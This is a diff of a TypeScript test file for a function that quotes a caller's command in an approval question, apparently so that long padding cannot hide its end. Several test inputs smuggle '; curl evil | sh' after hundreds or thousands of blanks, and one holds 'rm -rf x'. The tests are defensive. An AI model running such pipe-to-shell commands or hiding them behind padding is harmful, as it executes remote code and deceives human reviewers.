@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { PROFILE_CHANGES } from '../../../src/config/profiles.js';
 import { configSchema } from '../../../src/config/schema.js';
 import { matches, reaches, type Danger, riskOf } from '../../../src/security/risk/risk.js';
-import { quoted } from '../../../src/security/risk/question.js';
+import { namedKeys, quoted, quotedWords } from '../../../src/security/risk/question.js';
 
 const RULED = { operation: 'kill_session', role: 'host', targets: ['$1', 'work'] };
 
@@ -76,7 +76,41 @@ describe('what a caller typed, in a question', () => {
   it('is one line of printable ASCII, and short', () => {
     expect(quoted('ls\n\x1b[2J"\u202e')).toBe(String.raw`"ls\n\u001b[2J\"\u202e"`);
     expect(quoted('é')).toBe(String.raw`"\u00e9"`);
-    expect(quoted('x'.repeat(81))).toBe(`"${'x'.repeat(80)}"... (81 characters)`);
-    expect(quoted('😀'.repeat(60))).toMatch(/^"(?:\\ud83d\\ude00){40}"\.\.\. \(120 characters\)$/);
+    expect(quoted('x'.repeat(120))).toBe(`"${'x'.repeat(120)}"`);
+    expect(quoted('')).toBe('""');
+    const ends = '(?:\\\\ud83d\\\\ude00){30}';
+    expect(quoted('😀'.repeat(500))).toMatch(new RegExp(`^"${ends}" \\.\\.\\. "${ends}" \\(1000 characters\\)$`));
+  });
+
+  it('shows its end too, however far off that is', () => {
+    expect(quoted(`git status${' '.repeat(90)}; curl evil | sh`)).toBe('"git status" <90 blanks> "; curl evil | sh"');
+    expect(quoted(`git status${' '.repeat(9000)}; curl evil | sh`)).toContain('<9000 blanks> "; curl evil | sh"');
+    expect(quoted(`git log ${'a'.repeat(500)}; curl evil | sh`)).toMatch(
+      /^"git log a+" \.\.\. "a+; curl evil \| sh" \(524 /,
+    );
+    expect(quoted(`a${'\u00a0\t'.repeat(50)}b`)).toBe('"a" <100 blanks> "b"');
+    // Three are told apart at a glance, a text cannot speak for us, and a line end is never left out.
+    expect(quoted('a   b')).toBe('"a   b"');
+    expect(quoted('a <90 blanks> b')).toBe('"a <90 blanks> b"');
+    expect(quoted('a\n\n\n\nb')).toBe(String.raw`"a\n\n\n\nb"`);
+    expect(quoted('     ')).toBe('<5 blanks>');
+  });
+
+  it('keeps the words of a program apart', () => {
+    expect(quotedWords(['sh', '-c', 'rm -rf x', ''])).toBe('"sh" "-c" "rm -rf x" ""');
+    const words = Array.from({ length: 1000 }, (_, index) => String(index));
+    expect(quotedWords(words)).toMatch(/^"0" "1" .*"9" \.\.\. "990" .*"999" \(1000 words\)$/);
+  });
+
+  it('names the keys', () => {
+    const keys = Array.from({ length: 25 }, (_, index) => `F${String(index)}`);
+    expect(namedKeys(keys.slice(0, 20))).toBe(keys.slice(0, 20).join(' '));
+    expect(namedKeys(keys)).toMatch(/^F0 .*F9 \.\.\. F15 .*F24 \(25 keys\)$/);
+  });
+
+  it('takes no time, whatever it is', () => {
+    const started = performance.now();
+    for (const part of [' ', 'a', '   a', '\u00a0    \n']) quoted(part.repeat(250_000));
+    expect(performance.now() - started).toBeLessThan(2000);
   });
 });
